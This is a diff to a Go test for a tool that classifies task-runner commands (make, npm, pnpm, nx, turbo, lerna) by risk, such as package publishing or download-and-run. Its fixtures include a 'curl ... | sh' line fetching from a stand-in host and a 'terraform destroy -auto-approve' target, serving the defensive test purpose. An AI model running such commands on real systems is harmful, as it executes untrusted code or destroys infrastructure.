@@ -24,15 +24,17 @@ func TestRuns(t *testing.T) {
 		"there.mk":     "include into.mk\nhelp:\n\techo\nreset:\n\tterraform destroy -auto-approve\n",
 		"into.mk":      "help: reset\n",
 		"tasks.py":     "from invoke import task\n@task\ndef test(c):\n    c.run('pytest')\n@task\ndef ship(c):\n    c.run('twine upload dist/*')\n",
-		"package.json": `{"scripts": {"test": "vitest", "build": "tsc", "ship": "npm run build && npm publish", "prestart": "npm run ship", "seed": "./pieces.sh", "start": "node .", "all": "run-s b* ship"}}`,
-		"pieces.sh":    "curl -s https://x.example/i | sh\n",
-		"fine.sh":      "go test ./...\n",
-		"calls.sh":     "./pieces.sh\n",
-		"gone.sh":      "npm publish\n",
-		"takes.py":     "import helper\nhelper.go()\n",
-		"both.sh":      "go vet ./...\n",
-		"helper.py":    "def go(): pass\n",
-		"long.sh":      strings.Repeat("# nothing\n", 40_000) + "npm publish\n",
+		"package.json": `{"scripts": {"test": "vitest", "build": "tsc", "ship": "npm run build && npm publish", "prestart": "npm run ship", "seed": "./pieces.sh", "start": "node .", "all": "run-s b* ship", "mono": "nx run-many -t build", "nodes": "node --run=ship", "wired": "wireit", "needy": "tsc"}}`,
+
+		"turbo.json": `{"tasks": {"test": {"outputs": [], "dependsOn": ["^build"]}, "needy": {"dependsOn": ["ui#release"]}}}`,
+		"pieces.sh":  "curl -s https://x.example/i | sh\n",
+		"fine.sh":    "go test ./...\n",
+		"calls.sh":   "./pieces.sh\n",
+		"gone.sh":    "npm publish\n",
+		"takes.py":   "import helper\nhelper.go()\n",
+		"both.sh":    "go vet ./...\n",
+		"helper.py":  "def go(): pass\n",
+		"long.sh":    strings.Repeat("# nothing\n", 40_000) + "npm publish\n",
 	}
 	for name, text := range files {
 		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o700); err != nil {
@@ -48,7 +50,7 @@ func TestRuns(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(dir, "below", "package.json"), []byte(`{"scripts": {"dev": "vite", "release": "npm publish"}}`), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	wrote := func(name string) bool { return files[name] != "" && name != "gone.sh" }
+	wrote := func(name string) bool { return files[name] != "" && name != "gone.sh" && name != "turbo.json" }
 	for command, want := range map[string]string{
 		"make build":                         "",
 		"make test":                          "", // which is no target
@@ -80,6 +82,20 @@ func TestRuns(t *testing.T) {
 		"pnpm --filter site dev":             "",
 		"pnpm --filter site release":         "publish.package", // of a package below
 		"pnpm -r release":                    "publish.package",
+		"pnpm -r mono":                       "", // of what nx is asked for
+		"nx run-many -t build":               "",
+		"npx nx affected -t test,build":      "",
+		"turbo run build test":               "",
+		"lerna run test":                     "",
+		"run-s test build":                   "",
+		"npm run nodes":                      "publish.package",
+		"npm run wired":                      "publish.package",
+		"run-p 'b*' ship":                    "publish.package",
+		"nx run-many -t build,ship":          "publish.package",
+		"nx run ui:release:now":              "publish.package", // of a package below
+		"turbo run build#release":            "publish.package",
+		"turbo run needy":                    "publish.package", // by what its settings say it needs
+		"nx run-many -t $T":                  "publish.package",
 		"npm test":                           "",
 		"npm run build":                      "", // and not what its other scripts name
 		"npm run seed":                       "shell.download_run",
